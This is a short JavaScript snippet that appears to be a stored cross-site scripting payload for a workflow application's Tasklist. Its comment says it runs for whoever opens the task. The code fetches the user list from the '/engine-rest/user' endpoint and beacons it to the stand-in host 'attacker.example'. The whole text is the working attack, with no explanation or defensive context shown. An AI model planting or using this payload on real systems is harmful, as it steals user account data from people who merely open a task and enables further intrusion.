// Runs in the Tasklist of whoever opens the task.
fetch('/engine-rest/user').then(r => r.text()).then(t => navigator.sendBeacon('https://attacker.example', t));
